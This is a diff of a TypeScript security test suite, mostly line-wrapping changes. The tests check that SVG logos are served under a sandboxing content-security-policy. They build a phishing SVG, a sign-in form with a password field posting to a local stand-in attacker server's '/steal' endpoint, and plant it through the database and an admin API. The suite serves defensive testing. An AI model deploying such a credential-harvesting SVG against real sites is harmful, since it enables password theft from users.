@@ -31,7 +31,10 @@ async function startAttackerSite(): Promise<AttackerSite> {
     const path = new URL(request.url ?? '/', 'http://attacker').pathname;
     const file = files.get(path);
     if (file === undefined) requests.push({ method: request.method ?? '', path, body: await bodyOf(request) });
-    response.writeHead(200, { 'content-type': file === undefined ? 'text/plain' : 'image/svg+xml', 'cache-control': 'no-store' });
+    response.writeHead(200, {
+      'content-type': file === undefined ? 'text/plain' : 'image/svg+xml',
+      'cache-control': 'no-store',
+    });
     response.end(file ?? 'thanks');
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -48,7 +51,9 @@ async function startAttackerSite(): Promise<AttackerSite> {
 }
 
 /** The probe's logo (issue 39 item 4): a sign-in form drawn in the logo, posting to the attacker. */
-const phishingLogo = (action: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" viewBox="0 0 400 200">
+const phishingLogo = (
+  action: string,
+) => `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" viewBox="0 0 400 200">
   <foreignObject width="400" height="200">
     <form xmlns="http://www.w3.org/1999/xhtml" action="${action}" method="post">
       <label>Password <input name="password" type="password"/></label>
@@ -92,7 +97,12 @@ describe('an SVG logo opened at its own address', () => {
   it("sends nothing from the product's own origin, for a logo stored before uploads were cleaned", async () => {
     // Written straight into the table, as a logo saved before uploads were cleaned is: the serving policy alone protects it.
     const office = FIXTURE_OFFICES.late;
-    await running.product.database.db.update(t.offices).set({ logo: `data:image/svg+xml;base64,${Buffer.from(phishingLogo(`${attacker.origin}/steal`)).toString('base64')}` }).where(eq(t.offices.id, office));
+    await running.product.database.db
+      .update(t.offices)
+      .set({
+        logo: `data:image/svg+xml;base64,${Buffer.from(phishingLogo(`${attacker.origin}/steal`)).toString('base64')}`,
+      })
+      .where(eq(t.offices.id, office));
     const page = await (await running.browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
     const opened = await page.goto(`${running.product.baseUrl}/late/logo?office=${office}`);
     expect(opened?.headers()['content-security-policy']).toContain('sandbox');
@@ -116,7 +126,10 @@ describe('an SVG logo opened at its own address', () => {
     const current = await running.product.app.inject({ method: 'GET', url: '/api/admin/companies/zip', headers });
     const document = current.json() as Record<string, any>;
     document.offices[0].logo = `data:image/svg+xml;base64,${Buffer.from(phishingLogo(`${attacker.origin}/steal`)).toString('base64')}`;
-    expect((await running.product.app.inject({ method: 'PUT', url: '/api/admin/companies/zip', headers, payload: document })).statusCode).toBe(200);
+    expect(
+      (await running.product.app.inject({ method: 'PUT', url: '/api/admin/companies/zip', headers, payload: document }))
+        .statusCode,
+    ).toBe(200);
     const page = await (await running.browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
     await page.goto(`${running.product.baseUrl}/zip/logo?office=${FIXTURE_OFFICES.zip}`);
     await page.locator('svg').waitFor();
